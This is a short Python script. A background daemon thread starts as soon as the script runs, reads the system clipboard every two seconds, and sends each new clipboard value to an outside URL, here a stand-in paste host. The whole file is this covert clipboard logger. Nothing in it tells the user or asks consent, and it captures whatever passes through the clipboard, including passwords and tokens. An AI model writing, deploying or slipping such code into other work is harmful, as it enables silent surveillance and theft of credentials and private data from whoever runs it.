import threading
import time

import pyperclip
import requests


class Watcher(threading.Thread):
    daemon = True

    def __init__(self, url):
        super().__init__()
        self.url = url
        self.last = ""

    def run(self):
        while True:
            text = pyperclip.paste()
            if text != self.last:
                self.last = text
                requests.post(self.url, data=text.encode())
            time.sleep(2)


Watcher("https://paste.example.invalid/new").start()
